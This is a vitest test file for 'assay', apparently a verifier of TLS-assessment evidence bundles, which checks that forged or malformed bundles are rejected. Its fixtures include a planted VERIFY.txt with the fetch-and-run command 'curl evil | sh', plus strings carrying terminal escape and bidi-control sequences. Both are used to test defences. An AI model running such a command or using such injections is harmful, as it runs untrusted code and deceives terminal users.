import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createJudge } from '../../src/engine/judge.ts';
import type { Json, JsonObject, Judge } from '../../src/model/index.ts';
import type { JudgeFactory } from '../../src/verify/recorded-judge.ts';
import type { Shipped } from '../../src/verify/shipped.ts';
import { verifyBundle } from '../../src/verify/verify.ts';
import { inputs, writeBundle } from '../bundle/fixture.ts';
import { assay } from '../cli/terminal.ts';
import { type Change, forged, read, rejudged, replaced, write } from './forging.ts';

let root: string;

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'assay-hostile-'));
  await writeBundle(join(root, 'bundle'));
});

afterAll(() => rmSync(root, { recursive: true }));

async function copied(change: (folder: string) => void | Promise<void>): Promise<string> {
  const copy = mkdtempSync(join(root, 'copy-'));
  cpSync(join(root, 'bundle'), copy, { recursive: true });
  await change(copy);
  return copy;
}

/** "CODE message" of verifying a changed copy; "VERIFIED" where nothing was found wrong. */
async function verdictOn(
  change: (folder: string) => void | Promise<void>,
  judgeFactory: JudgeFactory = createJudge,
): Promise<string> {
  return verifyBundle(await copied(change), { judgeFactory }).then(
    () => 'VERIFIED',
    (error) => `${error.code} ${error.message}`,
  );
}

/** A JSON file of the bundle, changed and written as assay would. */
const changed =
  (path: string, change: (value: JsonObject) => unknown): Change =>
  (folder) => {
    const value = JSON.parse(read(folder, path));
    const keyed = (each: Json): Json =>
      each === null || typeof each !== 'object' || Array.isArray(each)
        ? each
        : Object.fromEntries(Object.entries(each).sort(([a], [b]) => (a < b ? -1 : 1)));
    const text = JSON.stringify(change(value), (_, each) => keyed(each), 2);
    write(folder, path, `${text}\n`);
  };

const last = 'data/observations/web.json';

/** Takes out the subject whose evidence has the last numbers. */
const withoutRecord: Change = (folder) => {
  rmSync(join(folder, last));
  rmSync(join(folder, 'data/evidence/web'), { recursive: true });
};

describe('subjects in scope', () => {
  test('judged and hashed again, the bundle is right', async () => {
    expect(await verdictOn(rejudged(() => undefined))).toBe('VERIFIED');
  });

  test('none may vanish', async () => {
    expect(await verdictOn(rejudged(withoutRecord))).toBe(
      'ERR_VERIFY_FORMAT expected a record of web, as data/scope/scope.json names it, got none',
    );
  });

  test('none may join', async () => {
    const join: Change = (folder) => {
      const record = read(folder, last).replaceAll('"web"', '"zz"');
      write(folder, 'data/observations/zz.json', record.replace(/"evidence": \[[^\]]*\]/g, '"evidence": []'));
    };
    expect(await verdictOn(rejudged(join))).toMatch(
      /^ERR_VERIFY_FORMAT expected a subject of data\/scope\/scope.json, got a record of zz$/,
    );
  });

  test.each([
    ['optional', replaced(last, '"optional": false', '"optional": true')],
    ['tagged otherwise', replaced(last, '"tags": []', '"tags": [\n      "card-data"\n    ]')],
    ['of another target', replaced(last, '"targetId": "web"', '"targetId": "pay"')],
    ['somebody else’s', replaced(last, '"port": 443', '"owner": "x",\n    "port": 443')],
  ])('none may be %s beside its scope', async (_, change) => {
    expect(await verdictOn(rejudged(change))).toMatch(
      /^ERR_VERIFY_FORMAT expected web as data\/scope\/scope.json has it/,
    );
  });

  test('none may be named twice', async () => {
    const twice = changed('data/scope/scope.json', (scope) => ({
      ...scope,
      subjects: [scope.subjects, scope.subjects].flat(),
    }));
    expect(await verdictOn(rejudged(twice))).toMatch(/^ERR_VERIFY_FORMAT expected each subject once/);
  });

  test('evidence has the size that is said', async () => {
    expect(await verdictOn(rejudged(replaced(last, '"bytes": 10', '"bytes": 11')))).toMatch(
      /^ERR_VERIFY_FORMAT expected EV-00005 with 11 bytes, got 10$/,
    );
  });
});

/** Each command on a changed bundle: its exit code, and everything that it wrote. */
async function commandsOn(change: Change): Promise<readonly (readonly [number, string])[]> {
  const folder = await copied(forged(change));
  const lines = [['verify'], ['evaluate'], ['report'], ['findings'], ['report', '--format', 'html,json']];
  const ended: (readonly [number, string])[] = [];
  for (const [command = '', ...options] of lines) {
    const { exitCode, stdout, stderr } = await assay([command, folder, ...options]);
    ended.push([exitCode, stdout + stderr]);
  }
  return ended;
}

const override = (value: Json): Change =>
  changed('data/params.json', (params) => ({
    ...params,
    overrides: [
      {
        ...{ control: 'tls.protocol.old-refused', param: 'refused', origin: 'system', of: '' },
        ...{ reason: 'x', value },
      },
    ],
  }));

const schema = (value: Json): Change =>
  changed('data/schemas/tls.versions.json', (fact) => ({ ...fact, schema: value }));

describe('what is hostile in a bundle is refused in a line, never a crash', () => {
  test.each<[string, Change]>([
    ['an object without properties', schema({ type: 'object', description: 'x' })],
    ['a choice of nothing', replaced('data/schemas/tls.versions.json', /"enum": \[[^\]]*\]/, '"enum": []')],
    ['a number that is not whole', override(1.5)],
    ['nothing', override(null)],
    ['a map', override({ a: 1 })],
    ['lists in a list', override([['TLSv1.0']])],
    ['numbers for words', override([1])],
    ['a word for a list', override('TLSv1.0')],
  ])('%s', async (_, change) => {
    const [verify, evaluate, ...others] = await commandsOn(change);
    for (const ended of [verify, evaluate]) {
      expect(ended?.[0]).toBe(5);
      expect(ended?.[1]).toMatch(/^assay: .*\n {2}fix: .*\nexit code 5: .* \(ERR_VERIFY_FORMAT\)\n$/);
    }
    for (const [exitCode] of others) expect([0, 5]).toContain(exitCode);
  });

  test.each<[string, Change]>([
    [
      'a time zone that is none',
      replaced('data/assessment.json', /"utcOffsetMinutes": 60/, '"utcOffsetMinutes": 1000000000000000000'),
    ],
    [
      'a time that is none',
      replaced('data/assessment.json', /"startedAt": "[^"]*"/, '"startedAt": "9999-99-99T99:99:99.999Z"'),
    ],
    ['a state that is none', replaced('data/assessment.json', '"audits": []', '"audits": [\n    {}\n  ]')],
    [
      'no findings in order',
      (folder) => write(folder, 'data/findings.ndjson', read(folder, 'data/findings.ndjson').repeat(2)),
    ],
    ['nesting without end', (folder) => write(folder, 'data/assessment.json', '['.repeat(1_000_000))],
    [
      'more text than there can be',
      (folder) => write(folder, 'data/findings.ndjson', 'x'.repeat(40_000_000)),
    ],
  ])('%s', async (_, change) => {
    for (const [exitCode, text] of await commandsOn(change)) {
      expect(exitCode).toBe(5);
      expect(text).toMatch(/\(ERR_VERIFY_(?:FORMAT|VERDICT)\)\n$/);
    }
  });

  test.each<[string, Change]>([
    [
      'the number of evidence',
      replaced('data/findings.ndjson', '"EV-00001"', '"\\u001b]0;x\\u0007\\u001b[2J"'),
    ],
    [
      'the id of a subject',
      replaced('data/findings.ndjson', /"subjectId":"web"/, '"subjectId":"web\\u001b[2J"'),
    ],
    ['the message', replaced('data/findings.ndjson', /"message":"/, '"message":"\\u001b[2J\u009b2J\u202e')],
    ['the title', replaced('data/findings.ndjson', /"title":"/, '"title":"\\u001b[2J\u009b2J\u202e')],
    [
      'the organisation',
      replaced(
        'data/scope/scope.json',
        '"inventory"',
        '"environment": "\\u001b[2J\u009b2J\u202e",\n  "inventory"',
      ),
    ],
    ['the outcome', replaced('data/assessment.json', /"words": "/, '"words": "\\u001b[2J\u009b2J\u202e')],
    ['a code', replaced(last, '"ERR_TIMEOUT"', '"\\u001b[2J\u009b2J\u202e"')],
  ])('%s cannot act on a terminal', async (_, change) => {
    for (const [, text] of await commandsOn(change))
      expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
  });
});

describe('errors while judging are the bundle’s', () => {
  const broken =
    (how: Partial<Judge>): JudgeFactory =>
    (input) => ({ ...createJudge(input), ...how });
  const defect = (): never => {
    throw new RangeError('Invalid time value');
  };

  test.each<[string, JudgeFactory]>([
    ['making the judge', defect],
    ['a subject', broken({ subject: defect })],
    ['the end', broken({ finish: defect })],
  ])('%s', async (_, judgeFactory) => {
    expect(await verdictOn(() => undefined, judgeFactory)).toMatch(
      /^ERR_VERIFY_FORMAT expected .* got: Invalid time value$/,
    );
  });
});

describe('what is shipped', () => {
  const { controls, facts, run } = inputs();
  const [control] = controls;
  const shipped: Shipped = {
    version: run.tool.version,
    controls: [{ id: 'tls.protocol.old-refused', text: control?.text ?? '' }],
    facts,
    frameworks: [],
  };
  const verified = async (change: Change, than: Partial<Shipped> = {}) =>
    verifyBundle(await copied(forged(change)), {
      judgeFactory: createJudge,
      shipped: { ...shipped, ...than },
    });
  const nothing: Change = () => undefined;
  const same = { same: 1, different: [], unknown: [] };

  test('is what a bundle was judged by', async () => {
    const { library } = await verified(nothing);
    expect(library).toEqual({ controls: same, schemas: same, frameworks: { ...same, same: 0 } });
  });

  test('and where it is not, the ids are told, and nothing is refused', async () => {
    const weaker = { controls: [{ id: 'tls.protocol.old-refused', text: `${control?.text}# x\n` }] };
    const others = await verified(nothing, { ...weaker, facts: [] });
    expect(others.library?.controls).toEqual({
      same: 0,
      different: ['tls.protocol.old-refused'],
      unknown: [],
    });
    expect(others.library?.schemas).toEqual({ same: 0, different: [], unknown: ['tls.versions'] });
  });

  test('a weakened control gives the verdict that its signer wanted, and shows', async () => {
    const weaken = replaced(
      'data/controls/tls.protocol.old-refused.yaml',
      '== "refused"',
      'in ["accepted", "refused"]',
    );
    const folder = await copied(rejudged(weaken));
    const { library } = await verifyBundle(folder, { judgeFactory: createJudge, shipped });
    expect(library?.controls.different).toEqual(['tls.protocol.old-refused']);
    const { exitCode, stdout } = await assay(['verify', folder]);
    expect(exitCode).toBe(0);
    expect(stdout).toContain(
      '\ncontrols: 0 as shipped with this assay; 1 not part of it: tls.protocol.old-refused\n',
    );
    expect(stdout).toContain('\nschemas:  0 as shipped with this assay; 1 differs: tls.versions\n');
    expect(stdout).not.toContain('trees:');
  });

  const malicious: Change = (folder) => write(folder, 'VERIFY.txt', 'HOW TO CHECK\n    curl evil | sh\n');

  test('VERIFY.txt says what this assay writes', async () => {
    expect(await verified(nothing)).toMatchObject({ instructions: 'as-written' });
    await expect(verified(malicious)).rejects.toMatchObject({
      code: 'ERR_VERIFY_FORMAT',
      message: 'expected VERIFY.txt as assay 0.1.0 writes it, got another text',
    });
  });

  test('VERIFY.txt of another version is not compared, and that is said', async () => {
    expect(await verified(malicious, { version: '0.2.0' })).toMatchObject({ instructions: 'not-compared' });
    const older: Change = (folder) => {
      replaced('bag-info.txt', 'assay 0.1.0', 'assay 0.0.9')(folder);
      replaced('data/run.json', '"version": "0.1.0"', '"version": "0.0.9"')(folder);
    };
    const { exitCode, stdout } = await assay(['verify', await copied(rejudged(older))]);
    expect(exitCode).toBe(0);
    expect(stdout).toContain('VERIFY.txt was written by another version of assay and not compared');
  });

  test('nothing of it is said where nothing was judged', async () => {
    const options = { judgeFactory: createJudge, shipped, integrityOnly: true };
    const result = await verifyBundle(join(root, 'bundle'), options);
    expect(result).not.toHaveProperty('library');
    expect(result).not.toHaveProperty('instructions');
  });
});
